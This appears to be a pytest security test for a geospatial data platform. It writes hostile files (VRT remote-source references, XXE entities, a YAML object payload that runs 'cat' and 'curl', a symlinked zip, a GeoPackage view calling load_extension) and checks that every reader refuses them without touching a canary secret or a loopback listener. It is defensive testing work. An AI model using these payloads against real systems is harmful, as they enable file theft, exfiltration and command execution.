"""A file that points at a secret of this machine and at an address, at every door."""

from __future__ import annotations

import hashlib
import json
import sqlite3
import stat
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest

from listening import Listener, listening
from platforms.engine.sources import open_source
from platforms.errors import PlatformsError
from platforms.geo.raster.opened import open_raster
from platforms.geo.read import read_plots
from platforms.geo.read_rows import read_rows
from platforms.geo.read_tables import read_tables
from platforms.layers.documents.full_text import read_lines
from platforms.layers.firm_sheet import SheetMarks, sheet_marks
from platforms.layers.tables import read_geometry_file
from platforms.layers.yaml_file import read_yaml
from platforms.outputs.maps.map_reading import read_page
from platforms.outputs.run_folder import RunFolder
from platforms.planning.siting.project import read_project
from platforms.store.care.foreign import refuse_programs
from platforms.store.exchange import read_zip
from platforms.store.ledger.file_kinds import kind_of
from platforms.store.position_file import import_positions

CANARY = "canary-51c7-not-to-be-read"

# what each text below is filled with: the secret's place, and the address
_VECTOR = (
    '<OGRVRTDataSource><OGRVRTLayer name="canary"><SrcDataSource>{place}</SrcDataSource>'
    '</OGRVRTLayer><OGRVRTLayer name="x"><SrcDataSource>/vsicurl/{url}</SrcDataSource>'
    "</OGRVRTLayer></OGRVRTDataSource>"
)
_RASTER = (
    '<VRTDataset rasterXSize="9" rasterYSize="9"><VRTRasterBand dataType="Byte" band="1">'
    "<SimpleSource><SourceFilename>/vsicurl/{url}</SourceFilename></SimpleSource>"
    "<SimpleSource><SourceFilename>{place}</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>"
)
_PIPELINE = '{{"type": "gdal_streamed_alg", "command_line": "gdal vector pipeline ! read {place}"}}'
_LINK = (
    '{{"type": "FeatureCollection", "crs": {{"type": "link", "properties": {{"href": "{url}"}}}},'
    ' "features": []}}'
)
_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://{place}">'
    '<!ENTITY b SYSTEM "{url}">]>'
)
_YAML = "name: !!python/object/apply:subprocess.getoutput ['cat {place}; curl {url}']\n"
_WORD = _ENTITY + (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "<w:p><w:r><w:t>&a;&b;</w:t></w:r></w:p></w:body></w:document>"
)
_SHEET = _ENTITY + (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&a;&b;</t></is></c></row></sheetData></worksheet>'
)


class Given(SimpleNamespace):
    """What a hostile file is made with: a folder, the secret in it, the address."""

    folder: Path
    place: Path
    url: str

    def filled(self, text: str) -> str:
        return text.format(place=self.place, url=self.url)

    def file(self, name: str, text: str) -> Path:
        path = self.folder / name
        path.write_text(self.filled(text), encoding="utf-8")
        return path

    def packed(self, name: str, members: dict[str, str]) -> Path:
        path = self.folder / name
        with zipfile.ZipFile(path, "w") as archive:
            for member, text in members.items():
                archive.writestr(member, self.filled(text))
        return path

    def book(self) -> Path:
        made, path = openpyxl.Workbook(), self.folder / "made.xlsx"
        made.save(path)
        with zipfile.ZipFile(path) as archive:
            members = {name: archive.read(name).decode() for name in archive.namelist()}
        plain = {n: t.replace("{", "{{").replace("}", "}}") for n, t in members.items()}
        return self.packed("a.xlsx", {**plain, "xl/worksheets/sheet1.xml": _SHEET})

    def scenario(self, text: str) -> Path:
        """A zip whose hashes fit, with tables that are none."""
        about = {"created_at": "2026-01-01T00:00:00", "name": "a"}
        table = {"scenario_id": "a", "kind": "run", "workspace": "w", "inputs": [],
                 "parameters": {}, "figures": {}, "tables": {"plots": "0"}, "version": "1",
                 "sample": False}  # fmt: skip
        record = json.dumps({"format": 1, "kept": about, "scenario": table})
        files = {"scenario.json": record, "tables/plots.parquet": self.filled(text)}
        files["tables.gpkg"] = files["tables/plots.parquet"]
        sums = [f"{hashlib.sha256(t.encode()).hexdigest()}  {n}\n" for n, t in files.items()]
        path = self.folder / "a.zip"
        with zipfile.ZipFile(path, "w") as archive:
            for name, one in {**files, "SHA256SUMS": "".join(sums)}.items():
                archive.writestr(name, one)
        return path

    def linked(self) -> Path:
        """A zip whose record is a link to the secret."""
        path = self.folder / "a.zip"
        with zipfile.ZipFile(path, "w") as archive:
            for name in ("scenario.json", "SHA256SUMS"):
                link = zipfile.ZipInfo(name)
                link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
                archive.writestr(link, str(self.place))
        return path

    def viewed(self) -> Path:
        """A GeoPackage with a layer that is a view."""
        path = self.folder / "a.gpkg"
        with sqlite3.connect(path) as made:
            made.execute("CREATE TABLE gpkg_contents (table_name TEXT, data_type TEXT)")
            made.execute("CREATE VIEW plots AS SELECT load_extension('x') AS a")
            made.execute("INSERT INTO gpkg_contents VALUES ('plots', 'features')")
        made.close()
        return path

    def run(self, text: str) -> Path:
        self.file("plan.gpkg", text)
        (self.folder / "run.json").write_text('{"input": {}}', encoding="utf-8")
        # a message names the folder as it was asked for
        return Path()


CARD = SimpleNamespace(geometry="polygon", columns=())
# a door, and what comes through it
DOORS: dict[str, Callable[[Given], object]] = {
    "plots: virtual": lambda g: read_plots(g.file("a.geojson", _VECTOR)),
    "plots: pipeline": lambda g: read_plots(g.file("a.geojson", _PIPELINE)),
    "plots: link": lambda g: read_plots(g.file("a.geojson", _LINK)),
    "plots: entity": lambda g: read_plots(g.file("a.kml", _ENTITY + "<kml>&a;&b;</kml>")),
    "plots: view": lambda g: read_plots(g.viewed()),
    "tables: virtual": lambda g: read_tables(g.file("a.csv", _VECTOR)),
    "tables: entity": lambda g: read_tables(g.packed("a.docx", {"word/document.xml": _WORD})),
    "rows: entity": lambda g: read_rows(g.book()),
    "scenario: virtual": lambda g: read_zip(g.scenario(_VECTOR)),
    "scenario: link": lambda g: read_zip(g.linked()),
    "positions: link": lambda g: import_positions(g.file("a.geojson", _LINK)),
    "project: object": lambda g: read_project(g.file("a.yaml", _YAML)),
    "pack: object": lambda g: read_yaml(g.file("a.yaml", _YAML)),
    "layer: virtual": lambda g: read_geometry_file(CARD, g.file("a.geojson", _VECTOR)),
    "layer: pipeline": lambda g: read_geometry_file(CARD, g.file("a.geojson", _PIPELINE)),
    "layer: link": lambda g: read_geometry_file(CARD, g.file("a.geojson", _LINK)),
    "layer: view": lambda g: read_geometry_file(CARD, g.viewed()),
    "engine: virtual": lambda g: open_source(g.file("a.shp", _VECTOR), None),
    "engine: link": lambda g: open_source(g.file("a.geojson", _LINK), None),
    "engine: another ending": lambda g: open_source(g.file("a.vrt", _VECTOR), None),
    "run: layers": lambda g: RunFolder.open(g.run(_VECTOR)).layers(),
    "run: plots": lambda g: RunFolder.open(g.run(_VECTOR)).survey(),
    "raster: virtual": lambda g: open_raster(g.file("a.tif", _RASTER)),
    "page of a map: virtual": lambda g: read_page(g.file("a.html", _VECTOR)),
    "document: entity": lambda g: read_lines(g.packed("a.docx", {"word/document.xml": _WORD})),
    "store: virtual": lambda g: refuse_programs(g.file("a.gpkg", _VECTOR)),
}
# nothing is refused: what leads elsewhere is no part of the answer
HARMLESS: dict[str, tuple[Callable[[Given], object], object]] = {
    "marks: entity": (lambda g: sheet_marks(g.book(), "Sheet"), SheetMarks()),
    "attachment: virtual": (lambda g: kind_of(g.file("a.pdf", _VECTOR).read_bytes()), None),
}


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with listening() as found:
        yield found


@pytest.fixture
def given(tmp_path, listener, monkeypatch):
    monkeypatch.chdir(tmp_path)
    place = tmp_path / "canary.csv"
    place.write_text(f"id,text\n1,{CANARY}\n")
    return Given(folder=tmp_path, place=place, url=f"http://127.0.0.1:{listener.port}/x")


@pytest.mark.parametrize("door", DOORS)
def test_nothing_that_a_file_points_at_is_touched(door, given, listener, caplog):
    with pytest.raises(PlatformsError) as refused:
        DOORS[door](given)
    told = refused.value.message("zh_CN") + refused.value.message("en") + caplog.text
    for secret in (CANARY, given.url, str(given.folder), tempfile.gettempdir() + "/"):
        assert secret not in told
    assert listener.came() == []


@pytest.mark.parametrize("door", HARMLESS)
def test_what_is_not_refused_says_nothing_of_it(door, given, listener):
    act, answer = HARMLESS[door]
    assert act(given) == answer
    assert listener.came() == []
